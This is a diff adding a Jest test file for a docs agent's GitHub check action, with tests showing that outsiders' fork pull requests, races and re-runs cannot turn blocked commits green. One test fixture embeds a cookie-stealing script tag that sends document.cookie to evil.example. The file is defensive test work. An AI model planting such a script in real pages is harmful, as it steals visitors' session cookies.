@@ -1,0 +1,367 @@
+import { describe, expect, test } from '@jest/globals'
+import type { Emulator } from '../../../emulator/server.ts'
+import { byUser, eventEnv, payload, REPOSITORY } from '../../../emulator/webhooks.ts'
+import { commentEnv, runAgent, runCheck, withEmulator } from '../harness.js'
+
+/**
+ * Issue #52, "statuses judged per commit", through the bundles (dist/check/index.js, the check
+ * action; dist/index.js, the agent's step) against the emulator. A status is a commit's: every
+ * pull request at that commit shows it. Each test is an attack on 1.5.1, which wrote a pass from
+ * the event alone (an outsider's pull request at the agent's blocked head turned it green; a
+ * fork's, or a push, at a followed code pull request's head put "Not followed" success over its
+ * pending or failed `docs`), or judged a head from a files list that had moved on. Each fails
+ * against 1.5.1's bundle and passes against this one.
+ */
+const it = test.concurrent
+
+const PAGE = 'guides/quickstart.mdx'
+const BASE = '---\ntitle: Quickstart\n---\n\n# Quickstart\n\nInstall the SDK.\n'
+const BLOCKED = `${BASE}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n`
+const CLEAN = `${BASE}\nRun the installer.\n`
+const AGENT = { login: 'mintlify[bot]', type: 'Bot' as const }
+const STRANGER = { login: 'stranger', type: 'User' as const }
+const CHANGES = 'docs-agent/changes'
+
+type Payload = Record<string, any>
+type Who = { login: string; type: 'User' | 'Bot' }
+
+/** A commit's statuses of `context`, oldest first, as [state, description]. */
+const statusesOf = (emulator: Emulator, sha: string, context = CHANGES) =>
+  emulator.github.commits
+    .statusesOf(REPOSITORY, sha)
+    .filter((s) => s.context === context)
+    .reverse()
+    .map((s) => [s.state, s.description])
+
+/** A pull request opened by `user` in acme/docs: its number. */
+const openPull = (emulator: Emulator, user: Who): number =>
+  emulator.github.addIssue(REPOSITORY, { title: 'Docs', pullRequest: true, user }).number
+
+/** The agent's pull request with its change seeded: its number and ends. */
+function agentPull(emulator: Emulator, head: string) {
+  const number = openPull(emulator, AGENT)
+  return {
+    number,
+    ...emulator.github.seedPullChange({ number, files: [{ path: PAGE, base: BASE, head }] }),
+  }
+}
+
+/** A pull request event of `number` at `headSha`, opened by and sent by `user`. */
+function pullPayload(
+  number: number,
+  user: Who,
+  {
+    headSha,
+    baseSha = 'f'.repeat(40),
+    action = 'opened',
+    fork = false,
+    before = '',
+  }: {
+    headSha: string
+    baseSha?: string
+    action?: string
+    fork?: boolean
+    before?: string
+  },
+): Payload {
+  return byUser(
+    payload('pull_request', action === 'synchronize' ? 'synchronize' : 'opened', (p) => {
+      p.action = action
+      p.number = number
+      Object.assign(p.pull_request, { number, draft: false, labels: [] })
+      p.pull_request.user.login = user.login
+      p.pull_request.user.type = user.type
+      p.pull_request.head.sha = headSha
+      p.pull_request.base.sha = baseSha
+      if (action === 'synchronize') Object.assign(p, { before, after: headSha })
+      if (fork) {
+        p.pull_request.head.repo.full_name = `${user.login}/docs`
+        p.pull_request.head.repo.fork = true
+      }
+    }),
+    user.login,
+    user.type,
+  )
+}
+
+/** The check action on a pull request event, under pull_request_target as the example runs it. */
+const check = (emulator: Emulator, body: Payload, extra: Record<string, string> = {}) =>
+  runCheck(emulator, {}, eventEnv('pull_request_target', body, extra))
+
+describe("the check action: an outsider's pull request at a commit of the agent's", () => {
+  it("a fork's pull request at the agent's blocked head: the head is judged as the agent's change, and stays blocked", async () => {
+    await withEmulator({}, async (emulator) => {
+      const agent = agentPull(emulator, BLOCKED)
+      const judged = await check(emulator, pullPayload(agent.number, AGENT, agent))
+      expect(judged.outputs['change-check']).toBe('blocked')
+      const fork = openPull(emulator, STRANGER)
+      emulator.github.seedPullAt({ number: fork, headSha: agent.headSha })
+      const run = await check(emulator, pullPayload(fork, STRANGER, { ...agent, fork: true }))
+      // The agent's pull request shows its head's newest status: the failure, and nothing after.
+      expect(statusesOf(emulator, agent.headSha)).toEqual([
+        ['failure', expect.stringContaining('1 finding beyond docs text (script)')],
+      ])
+      expect(run.code).toBe(0)
+      expect(run.outputs['change-check']).toBe('blocked')
+      expect(run.stdout).toContain(`is a commit of the agent's pull request #${agent.number}`)
+    })
+  })
+
+  it("a fork's pull request at a head the agent had before its latest push: judged as the agent's change, never passed", async () => {
+    await withEmulator({}, async (emulator) => {
+      const agent = agentPull(emulator, BLOCKED)
+      await check(emulator, pullPayload(agent.number, AGENT, agent))
+      const fixed = emulator.github.seedPullChange({
+        number: agent.number,
+        files: [{ path: PAGE, base: BASE, head: CLEAN }],
+      })
+      await check(emulator, pullPayload(agent.number, AGENT, { ...fixed, action: 'synchronize' }))
+      const fork = openPull(emulator, STRANGER)
+      emulator.github.seedPullAt({ number: fork, headSha: agent.headSha })
+      const run = await check(emulator, pullPayload(fork, STRANGER, { ...agent, fork: true }))
+      expect(statusesOf(emulator, agent.headSha)).toEqual([
+        ['failure', expect.stringContaining('(script)')],
+      ])
+      expect(statusesOf(emulator, fixed.headSha)).toEqual([['success', 'Nothing beyond docs text']])
+      expect(run.outputs['change-check']).toBe('blocked')
+    })
+  })
+
+  it('a head the agent pushed past before any check judged it: the outsider’s pull request gets the agent’s verdict, a failure', async () => {
+    await withEmulator({}, async (emulator) => {
+      const agent = agentPull(emulator, BLOCKED)
+      // The agent pushed again before the check of its first head ran: that head has no status.
+      emulator.github.seedPullChange({
+        number: agent.number,
+        files: [{ path: PAGE, base: BASE, head: CLEAN }],
+      })
+      const fork = openPull(emulator, STRANGER)
+      emulator.github.seedPullAt({ number: fork, headSha: agent.headSha })
+      const run = await check(emulator, pullPayload(fork, STRANGER, { ...agent, fork: true }))
+      expect(statusesOf(emulator, agent.headSha)).toEqual([
+        ['failure', expect.stringContaining('(script)')],
+      ])
+      expect(run.outputs['change-check']).toBe('blocked')
+    })
+  })
+
+  it("the agent's head whose read failed (error): an outsider's pull request there does not turn it into a pass", async () => {
+    await withEmulator({}, async (emulator) => {
+      const agent = agentPull(emulator, BLOCKED)
+      // Every way a version reads the change fails (its files list, its comparison).
+      for (const op of ['github.compare', 'github.pull-files'])
+        emulator.faults.add({ op, kind: 'status', status: 502, times: 0 })
+      const failed = await check(emulator, pullPayload(agent.number, AGENT, agent))
+      expect(failed.code).toBe(1)
+      expect(statusesOf(emulator, agent.headSha)).toEqual([
+        ['error', expect.stringMatching(/^Could not read the change/)],
+      ])
+      emulator.faults.clear()
+      const fork = openPull(emulator, STRANGER)
+      emulator.github.seedPullAt({ number: fork, headSha: agent.headSha })
+      await check(emulator, pullPayload(fork, STRANGER, { ...agent, fork: true }))
+      const shown = statusesOf(emulator, agent.headSha)
+      expect(shown.at(-1)?.[0]).toBe('failure')
+      expect(shown.map(([state]) => state)).not.toContain('success')
+    })
+  })
+})
+
+describe("the check action: a merge group's pass never replaces what its head carries", () => {
+  it('a re-run that finds no agent pull request open leaves the error of the group holding its change', async () => {
+    await withEmulator({}, async (emulator) => {
+      const agent = agentPull(emulator, BLOCKED)
+      const group = emulator.github.seedMergeGroup({ numbers: [agent.number] })
+      const groupEnv = (attempt: string) =>
+        eventEnv(
+          'merge_group',
+          payload('merge_group', 'checks_requested', (p) => {
+            p.merge_group.head_sha = group.headSha
+            p.merge_group.base_sha = group.baseSha
+            p.merge_group.head_ref = group.headRef
+            p.merge_group.base_ref = 'refs/heads/main'
+          }),
+          { GITHUB_RUN_ATTEMPT: attempt },
+        )
+      // The group holds the agent's pull request; reading its comparison fails.
+      emulator.faults.add({ op: 'github.compare', kind: 'status', status: 502, times: 0 })
+      const failed = await runCheck(emulator, {}, groupEnv('1'))
+      expect(failed.code).toBe(1)
+      emulator.faults.clear()
+      // The agent's pull request is closed meanwhile; the group's head still holds its change.
+      const issue = emulator.github.issues.find((i) => i.number === agent.number)
+      if (issue !== undefined) issue.state = 'closed'
+      const rerun = await runCheck(emulator, {}, groupEnv('2'))
+      expect(statusesOf(emulator, group.headSha)).toEqual([
+        ['error', expect.stringMatching(/^Could not read the change/)],
+      ])
+      expect(rerun.outputs['change-check']).toBe('skipped')
+      expect(rerun.stdout).toMatch(
+        /::warning::Nothing set: docs-agent\/changes on [0-9a-f]{7} says error .* replaces nothing but a pass; the merge group shows it\. Queue its pull requests again/,
+      )
+      expect(rerun.summary).toMatch(/^### docs-agent\/changes: `error` on [0-9a-f]{7}\n/)
+    })
+  })
+})
+
+describe('the change read at the exact ends its verdict names', () => {
+  /**
+   * The agent's head moves on (a push that reverts the blocked page and adds a clean one) while
+   * a check reads its first head: 1.5.1 read the pull request's files list, which by then was the
+   * new head's, and passed the first head on the new head's files.
+   */
+  function racing(emulator: Emulator, number: number, ops: readonly string[]) {
+    let moved = false
+    return (op: string): number => {
+      if (!moved && ops.includes(op)) {
+        moved = true
+        emulator.github.seedPullChange({
+          number,
+          files: [{ path: 'guides/other.mdx', head: '# Other\n' }],
+        })
+      }
+      return 0
+    }
+  }
+
+  it('the check action: a head that moves while it is read gets no verdict from that read, and never a pass', async () => {
+    let latency: (op: string) => number = () => 0
+    await withEmulator({ latencyMs: (op) => latency(op) }, async (emulator) => {
+      const agent = agentPull(emulator, BLOCKED)
+      latency = racing(emulator, agent.number, ['github.pull-files', 'github.compare'])
+      const run = await check(emulator, pullPayload(agent.number, AGENT, agent))
+      expect(statusesOf(emulator, agent.headSha)).toEqual([])
+      expect(run.code).toBe(0)
+      expect(run.stdout).toMatch(
+        /has moved on to [0-9a-f]{7} while [0-9a-f]{7}, whose event this is, was read/,
+      )
+    })
+  })
+
+  it("a job's end: a head that moves while it is read is not judged on the new head's files", async () => {
+    let latency: (op: string) => number = () => 0
+    await withEmulator({ latencyMs: (op) => latency(op) }, async (emulator) => {
+      // The agent's first pull request in the emulator is #101.
+      const first = emulator.github.seedPullChange({
+        number: 101,
+        files: [{ path: PAGE, base: BASE, head: BLOCKED }],
+      })
+      latency = racing(emulator, 101, ['github.pull-files', 'github.compare'])
+      const run = await runAgent(emulator, {}, commentEnv('@docs-agent add a quickstart'))
+      expect(statusesOf(emulator, first.headSha)).toEqual([])
+      expect(run.code).toBe(0)
+      expect(run.outputs['change-check']).toBe('unavailable')
+      expect(run.stdout).toMatch(/moved on to [0-9a-f]{7} while [0-9a-f]{7} was read/)
+    })
+  })
+})
+
+describe('docs-status: a pass for one pull request never lands on a followed head', () => {
+  const HEAD = 'c'.repeat(40)
+  const BEFORE = 'a'.repeat(40)
+  const STATUS = { 'follow-code-changes': 'true', 'docs-status': 'docs' }
+
+  /** A followed code pull request whose head HEAD carries `state` from its job's runs. */
+  function followed(emulator: Emulator, state?: { state: string; description: string }) {
+    emulator.github.commits.seed({
+      commits: [
+        { sha: BEFORE, files: ['src/cli.ts'] },
+        { sha: HEAD, files: ['src/export.ts'] },
+      ],
+    })
+    const number = openPull(emulator, { login: 'dev-dan', type: 'User' })
+    emulator.github.pullCommits.push(REPOSITORY, number, [HEAD])
+    if (state !== undefined)
+      emulator.github.commits.addStatus(REPOSITORY, HEAD, {
+        ...state,
+        context: 'docs',
+        ageMs: 5000,
+      })
+    return number
+  }
+
+  const agent = (
+    emulator: Emulator,
+    event: string,
+    body: Payload,
+    inputs: Record<string, string>,
+  ) => runAgent(emulator, { ...STATUS, ...inputs }, eventEnv(event, body))
+
+  const PENDING = { state: 'pending', description: 'The docs agent is working on job j1' }
+  const FAILED = { state: 'failure', description: 'The docs agent job j1 failed' }
+
+  it.each([
+    ['pending', PENDING],
+    ['failed', FAILED],
+  ])(
+    'a fork\'s pull request opened at a followed pull request\'s %s head: its "Not followed" success is not written there',
+    async (_, state) => {
+      await withEmulator({}, async (emulator) => {
+        followed(emulator, state)
+        const fork = openPull(emulator, STRANGER)
+        emulator.github.pullCommits.openAt(REPOSITORY, fork, HEAD)
+        const body = pullPayload(fork, STRANGER, { headSha: HEAD, fork: true })
+        const run = await agent(emulator, 'pull_request_target', body, {
+          'label-trigger': 'needs-docs',
+        })
+        expect(run.code).toBe(0)
+        expect(run.outputs.status).toBe('skipped')
+        expect(statusesOf(emulator, HEAD, 'docs')).toEqual([[state.state, state.description]])
+      })
+    },
+  )
+
+  it("a fork's pull request opened at a followed head before its job's run wrote there: nothing is written, the followed pull request's run answers it", async () => {
+    await withEmulator({}, async (emulator) => {
+      const pull = followed(emulator)
+      const fork = openPull(emulator, STRANGER)
+      emulator.github.pullCommits.openAt(REPOSITORY, fork, HEAD)
+      const body = pullPayload(fork, STRANGER, { headSha: HEAD, fork: true })
+      const run = await agent(emulator, 'pull_request_target', body, {
+        'label-trigger': 'needs-docs',
+      })
+      expect(statusesOf(emulator, HEAD, 'docs')).toEqual([])
+      expect(run.stdout).toContain(
+        `it is the head of pull request #${pull}, whose own runs answer it`,
+      )
+    })
+  })
+
+  it("a push with no job, to a pull request moved to a followed head: the followed head's failure stands", async () => {
+    await withEmulator({}, async (emulator) => {
+      followed(emulator, FAILED)
+      // A writer's pull request opened before the workflow (no job), reset to the followed head.
+      const other = openPull(emulator, { login: 'writer', type: 'User' })
+      emulator.github.pullCommits.push(REPOSITORY, other, [BEFORE, HEAD])
+      const push = pullPayload(
+        other,
+        { login: 'writer', type: 'User' },
+        {
+          headSha: HEAD,
+          action: 'synchronize',
+          before: BEFORE,
+        },
+      )
+      const run = await agent(emulator, 'pull_request', push, {})
+      expect(run.outputs.status).toBe('skipped')
+      expect(statusesOf(emulator, HEAD, 'docs')).toEqual([[FAILED.state, FAILED.description]])
+    })
+  })
+
+  it("a refused push (an outsider's fork moved to a followed head): the followed head's pending stands", async () => {
+    await withEmulator({}, async (emulator) => {
+      followed(emulator, PENDING)
+      const fork = openPull(emulator, STRANGER)
+      emulator.github.pullCommits.push(REPOSITORY, fork, [BEFORE, HEAD])
+      const push = pullPayload(fork, STRANGER, {
+        headSha: HEAD,
+        action: 'synchronize',
+        before: BEFORE,
+        fork: true,
+      })
+      const run = await agent(emulator, 'pull_request_target', push, {})
+      expect(run.outputs.status).toBe('skipped')
+      expect(statusesOf(emulator, HEAD, 'docs')).toEqual([[PENDING.state, PENDING.description]])
+    })
+  })
+})
